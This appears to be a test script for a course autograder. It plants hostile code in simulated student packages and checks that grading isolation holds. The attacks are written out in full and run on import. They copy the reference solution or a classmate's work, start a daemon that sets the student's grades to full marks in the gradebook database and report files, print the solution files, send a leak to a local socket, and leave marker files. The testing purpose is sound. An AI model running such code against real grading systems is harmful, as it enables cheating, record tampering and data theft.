"""Hostile submissions: an untouched release of a unit whose ``nnlib/__init__.py`` attacks the grader.

Each attack runs wherever the student's package is imported at grading time (the notebook's kernel
and every judge child) and knows everything an attacker could find out: where the course, the
grading folder, the grading user's home and a listener are. It tries a whole class of attack, not
one path: it searches the file system for what it wants. Would any of them work, the student would
score above zero, a marker would exist, the listener would hear from it or a file would change.

Run as a script, it builds and grades such a class (``python tests/hostile.py SCRATCH PORT TOKEN``),
so a test can run the same class as another user.
"""
import json
import sys
import textwrap
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))  # simulated_class, run as a script

UNIT = "04_single_layer_gradients"

# Helpers every attack shares: where to look for what it wants.
PRELUDE = """
import os as _os, shutil as _shutil, sys as _sys
_P = json.loads({params!r})
_SKIP = {{"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "site-packages", ".git",
          "__pycache__", "node_modules"}}


def _walk(roots, depth=7):
    \"\"\"Every file under ``roots`` (pruning system folders), nearest first.\"\"\"
    seen = set()
    for top in roots:
        for folder, dirs, files in _os.walk(top):
            if folder.count(_os.sep) - top.count(_os.sep) >= depth:
                dirs[:] = []
            dirs[:] = [name for name in dirs if name not in _SKIP]
            for name in files:
                path = _os.path.join(folder, name)
                if path not in seen:
                    seen.add(path)
                    yield path


def _roots():
    here = _os.path.dirname(_os.path.abspath(__file__))
    return [_P["repo"], _P["work"], _P["home"], _os.path.dirname(here), "/tmp", "/"]


def _stubs(folder):
    total = 0
    for name in _os.listdir(folder):
        if name.endswith(".py"):
            with open(_os.path.join(folder, name), errors="replace") as handle:
                total += handle.read().count("implement this in exercise")
    return total


def _complete_nnlibs(pattern_dirs):
    \"\"\"Folders named nnlib with fewer stubs than ours, the most complete first.\"\"\"
    here = _os.path.dirname(_os.path.abspath(__file__))
    found = {{}}
    for path in _walk(pattern_dirs):
        folder = _os.path.dirname(path)
        if path.endswith(_os.sep + "nnlib" + _os.sep + "functional.py") and folder != here:
            try:
                found[folder] = _stubs(folder)
            except OSError:
                pass
    return sorted((count, folder) for folder, count in found.items() if count < _stubs(here))


def _overwrite_with(source):
    here = _os.path.dirname(_os.path.abspath(__file__))
    for target in [here, _P["submitted_nnlib"]]:
        try:
            _shutil.copytree(source, target, dirs_exist_ok=True)
        except Exception:
            pass
"""

ATTACKS = {
    # Copy the most complete nnlib it can find (the reference) over its own copies.
    "copies_the_reference": """
try:
    _found = _complete_nnlibs([_P["repo"], "/", _P["home"]])
    if _found:
        _overwrite_with(_found[0][1])
except Exception:
    pass
""",
    # Copy the most complete classmate's submission over its own copies.
    "copies_a_classmate": """
try:
    _found = [item for item in _complete_nnlibs([_P["work"], "/tmp", "/"])
              if _P["repo"] not in item[1]]
    if _found:
        _overwrite_with(_found[0][1])
except Exception:
    pass
""",
    # Leave a daemon that waits for grading to end, then gives itself full marks everywhere.
    "leaves_a_daemon": """
_DAEMON = r'''
import csv, glob, json, os, sqlite3, sys, time
P = json.loads(sys.argv[2])
end = time.time() + P["daemon_seconds"]
while time.time() < end:
    time.sleep(0.3)
    try:
        db = sqlite3.connect(os.path.join(P["work"], "gradebook.db"), timeout=5)
        db.execute("UPDATE grade SET manual_score = 100 WHERE notebook_id IN (SELECT n.id FROM "
                   "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
                   "WHERE a.student_id = ?)", (P["student"],))
        db.commit()
        db.close()
    except Exception:
        pass
    for path in glob.glob(os.path.join(P["work"], "grades", "*.csv")):
        try:
            rows = list(csv.reader(open(path)))
            for row in rows[1:]:
                if row[0] == P["student"]:
                    row[2] = row[3] = "1000"
            csv.writer(open(path, "w", newline="")).writerows(rows)
        except Exception:
            pass
    for path in glob.glob(os.path.join(P["work"], "grades", "*.json")):
        try:
            report = json.load(open(path))
            for student in report["students"]:
                if student["student_id"] == P["student"]:
                    for test in student["tests"]:
                        test["score"] = test["max_score"]
            json.dump(report, open(path, "w"))
        except Exception:
            pass
    for path in glob.glob(os.path.join(P["submitted_nnlib"], "*.py")):
        try:
            open(path, "a").write("# changed after grading\\n")
        except Exception:
            pass
'''
try:
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-c", _DAEMON, _P["token"], json.dumps(_P)])
        _os._exit(0)
    _os.wait()
except Exception:
    pass
""",
    # Print every solution region it can find on disk: its feedback page would show them.
    "prints_solutions": """
try:
    _shown = 0
    for _path in _walk(_roots()):
        if _shown > 200_000 or not _path.endswith((".py", ".ipynb")):
            continue
        try:
            with open(_path, errors="replace") as _handle:
                _text = _handle.read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in _text and "implement this in exercise" not in _text:
            print(_path)
            print(_text)
            _shown += len(_text)
except Exception:
    pass
""",
    # Send what it can to a listener on the grading machine.
    "phones_home": """
try:
    import socket as _socket
    with _socket.create_connection(("127.0.0.1", _P["port"]), timeout=3) as _connection:
        _connection.sendall(("leak from " + _P["student"]).encode())
except Exception:
    pass
""",
    # Leave files behind in the machine's /tmp, the grading user's home and the course folder.
    "leaves_files": """
for _folder in ["/tmp", _P["home"], _P["work"], _P["repo"]]:
    try:
        with open(_os.path.join(_folder, _P["token"] + "-marker"), "w") as _handle:
            _handle.write("left behind by " + _P["student"])
    except Exception:
        pass
""",
}


def attack_source(name, params):
    """Python source appended to the student's ``nnlib/__init__.py`` for the attack ``name``."""
    prelude = "import json\n" + PRELUDE.format(params=json.dumps(params))
    return "\n# --- hostile ---\n" + prelude + textwrap.dedent(ATTACKS[name])


def build_and_grade(scratch, port, token, daemon_seconds=90, jobs=2, cell_timeout=20, sandboxed=True):
    """Build the hostile class (plus an honest reference and an untouched release) under
    ``scratch`` and grade it; returns what the test needs to read the results back."""
    import os

    from autograder.build import build_unit
    from autograder.grading import grade
    from simulated_class import make_submission

    REPO = Path(__file__).resolve().parents[1]

    scratch = Path(scratch)
    work = scratch / "work"
    release = build_unit(UNIT, scratch / "release", work_dir=scratch / "build", root=REPO)
    submissions = scratch / "submissions"
    make_submission(release, submissions / "reference" / UNIT)
    make_submission(release, submissions / "untouched_release" / UNIT, reference=False)
    for name in ATTACKS:
        folder = make_submission(release, submissions / name / UNIT, reference=False)
        params = {"repo": str(REPO), "work": str(work), "home": os.path.expanduser("~"),
                  "student": name, "unit": UNIT, "port": port, "token": token,
                  "daemon_seconds": daemon_seconds,
                  "submitted_nnlib": str(work / "submitted" / name / UNIT / "nnlib")}
        init = folder / "nnlib" / "__init__.py"
        init.write_text(init.read_text() + attack_source(name, params))
    report = grade(UNIT, submissions=submissions, work_dir=work, root=REPO, progress=False,
                   cell_timeout=cell_timeout, jobs=jobs, sandboxed=sandboxed)
    return {"work": str(work), "submissions": str(submissions), "csv": str(report.csv_path),
            "isolation": report.isolation,
            "scores": {student.student_id: [student.score, student.max_score]
                       for student in report.students}}


if __name__ == "__main__":
    scratch, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    print(json.dumps(build_and_grade(scratch, port, token)))
